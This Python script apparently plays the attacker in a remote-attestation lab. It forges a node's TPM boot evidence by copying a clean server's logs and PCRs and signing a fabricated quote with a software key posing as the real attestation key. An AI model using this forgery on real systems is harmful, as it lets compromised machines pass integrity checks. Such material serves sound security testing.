#!/usr/bin/env python3
"""Plays the attacker on node-12: replaces its boot evidence by that of a clean server, quoted by a software
key that claims to be a restricted TPM key. `forge.py DIR CLEAN_DIR EK_PUB NONCE_HEX`. Everything that an
outsider can compute is right (event log, PCR digest, nonce, clock, the signer's qualified name, the EK
certificate); only the enrolment, made for the TPM's real AK, does not name this key."""
import json
import os
import shutil
import struct
import sys
import tempfile

import notes
import tpm

suspect, clean, ek_pub, nonce = sys.argv[1:]


def boot(name, root=suspect):
    return os.path.join(root, "boot", name)


def read(path):
    return open(path, "rb").read()


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def der_integers(der):
    """The two integers of a DER ECDSA signature, 32 bytes each."""
    at = 2
    for _ in range(2):
        size = der[at + 1]
        yield int.from_bytes(der[at + 2:at + 2 + size], "big").to_bytes(32, "big")
        at += 2 + size


real_quote, real_ak = tpm.quote(read(boot("quote.msg"))), read(boot("ak.tpmt"))
for name in ["eventlog.bin", "ima.log", "pcrs.json"]:
    shutil.copyfile(boot(name, clean), boot(name))

with tempfile.TemporaryDirectory() as tmp:
    key, message = os.path.join(tmp, "key.pem"), os.path.join(tmp, "quote.msg")
    notes.openssl("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", key)
    point = notes.openssl("pkey", "-in", key, "-pubout", "-outform", "DER")[-64:]
    write(boot("ak.pem"), notes.openssl("pkey", "-in", key, "-pubout"))
    # The same template as the real AK; only the point differs.
    ak = real_ak[:-68] + tpm.sized(point[:32]) + tpm.sized(point[32:])
    write(boot("ak.tpmt"), ak)

    endorsement = struct.pack(">I", 0x4000000B)
    ek = tpm.qualified(endorsement, tpm.name(read(ek_pub)[2:]))
    if tpm.qualified(ek, tpm.name(real_ak)) != real_quote["signer"]:
        sys.exit("the qualified name of the real AK does not come out")
    selection = real_quote["selection"]
    digest = tpm.pcr_digest(selection, json.load(open(boot("pcrs.json"))))
    quote = b"\xffTCG" + struct.pack(">H", tpm.ATTEST_QUOTE)
    quote += tpm.sized(tpm.qualified(ek, tpm.name(ak))) + tpm.sized(bytes.fromhex(nonce))
    quote += real_quote["clock"] + real_quote["firmware"]
    quote += struct.pack(">IHB", 1, 0x000B, 3) + sum(1 << i for i in selection[0][1]).to_bytes(3, "little")
    quote += tpm.sized(digest)
    write(boot("quote.msg"), quote)
    write(message, quote)
    r, s = der_integers(notes.openssl("dgst", "-sha256", "-sign", key, message))
    write(boot("quote.sig"), struct.pack(">HH", tpm.ECDSA, 0x000B) + tpm.sized(r) + tpm.sized(s))
